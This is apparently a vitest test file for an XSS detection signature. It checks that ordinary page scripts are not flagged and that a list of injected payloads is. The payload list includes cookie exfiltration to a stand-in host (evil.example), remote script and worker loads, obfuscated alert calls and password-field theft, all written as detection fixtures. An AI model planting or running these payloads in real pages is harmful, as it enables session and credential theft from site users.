import { expect, test } from 'vitest';
import { xss } from '../../../src/attacks/signatures/xss.ts';
import { foundIn, jsonBody } from '../found-in.ts';

const page = (code: string): string => `<div id="a"></div>\n<script>\n${code}\n</script>`;

test.each([
  'var tree = new RBTree(function(a, b) { return a - b; });\ntree.insert(0);\ntree.insert(1);',
  "MathJax.Hub.Queue(function () {\n  // your startup commands\n  start('now');\n});",
  "import { jwtDecode } from './jwt-decode.js';\nconst token = 'eyJhsw5c';\nconst decoded = jwtDecode(token);",
  "function gtag() { dataLayer.push('x'); }\ngtag('js', new Date());\ngtag('config', 'UA-1-1');",
  "window.dataLayer = window.dataLayer || [];\nfunction gtag() { dataLayer.push(arguments); }\ngtag('config', 'G-1');",
  "hbspt.forms.create({\n  region: 'eu1',\n  portalId: '12',\n  name: 'Contact: shop'\n});",
  "$(document).ready(function () { $('.slider').slick({ dots: true, autoplay: true }); });",
  "new Chart(document.getElementById('c'), { type: 'bar', data: { labels: ['A', 'B'], datasets: [{ data: [1, 2] }] } });",
  "document.getElementById('menu').addEventListener('click', function () { this.classList.toggle('open'); });",
  "require.config({ baseUrl: './vendor/parser/' });\nrequire(['parser.js'], function (parser) { parser.parse('x'); });",
  "import hljs from 'https://cdnjs.cloudflare.com/ajax/libs/highlight.js/11.12.0/es/highlight.min.js';\nhljs.registerLanguage('go', go);",
  "RED.nodes.registerType('timer', {\n  category: 'function',\n  defaults: { name: { value: '' }, folder: { value: '/home' } },\n  label: function () { return this.name || 'timer'; },\n});",
  "$('#agree').on('change', function () { $('#send').toggle($('#agree').is(':checked')); });\nconsole.log('Ready: choose one');",
  'AOS.init();',
])('a program of the page itself is no attack: %s', (code) => {
  expect(foundIn(xss, jsonBody({ value: page(code) }))).toEqual([]);
});

const PROGRAM = 'var tree = new RBTree(function(a, b) { return a - b; });\ntree.insert(0);';

test.each([
  'alert(1)',
  "fetch('//evil.example/?' + document.cookie)",
  "top['al' + 'ert'](1)",
  "a['constructor']('x')()",
  "tree.src = 'x'",
  "$.post('x', 'y')",
  "import 'https://evil.example/x.js'",
  "new Image().src='//evil.example'",
  'x`y`',
  'document.forms[0].submit()',
  "\\u0061lert('x')",
  "e = eval; e('x')",
  "setTimeout('x()')",
  "location = 'javascript:x'",
  "s.innerHTML = 'x'",
  "document.title = 'x'",
  "document.getElementById('a').textContent = 'x'",
  "send(document.getElementById('password').value)",
  "document.querySelector('a').setAttribute('href', 'x')",
  "document.getElementById('a').click()",
  'arguments.callee.caller(1)',
  "var d = document; d.title = 'x'",
  'f({ constructor: x })',
  'window.onerror = confirm',
  'draw(window.name)',
  'draw(name)',
  "$(this.name || 'x')",
  "import('/' + '/evil.example/x.js')",
  "new Worker('/' + '/evil.example/x.js')",
  "draw('javascript:x')",
  "draw('\\\\x61lert')",
])('but one that does more is, whatever stands around it: %s', (code) => {
  expect(foundIn(xss, jsonBody({ value: page(`${PROGRAM}\n${code}`) }))).not.toEqual([]);
  expect(foundIn(xss, jsonBody({ value: page(`${code};\n${PROGRAM}`) }))).not.toEqual([]);
});

test('a script of a few words is what somebody tries out', () => {
  expect(foundIn(xss, jsonBody({ value: '<script>hello(1)</script>' }))).not.toEqual([]);
  expect(foundIn(xss, jsonBody({ value: '<script>console.clear()</script>' }))).not.toEqual([]);
  expect(foundIn(xss, jsonBody({ value: `<script>${PROGRAM}` }))).not.toEqual([]);
});

test('a script that ends inside of a bracket runs nothing, one that only lacks its end tag does', () => {
  expect(foundIn(xss, jsonBody({ content: "<script>var a = new Slider('.a', { loop: true," }))).toEqual([]);
  expect(foundIn(xss, jsonBody({ content: "<script>a('x', {});b(1)" }))).not.toEqual([]);
  expect(foundIn(xss, jsonBody({ content: '<script>f({a: alert(1)' }))).not.toEqual([]);
});
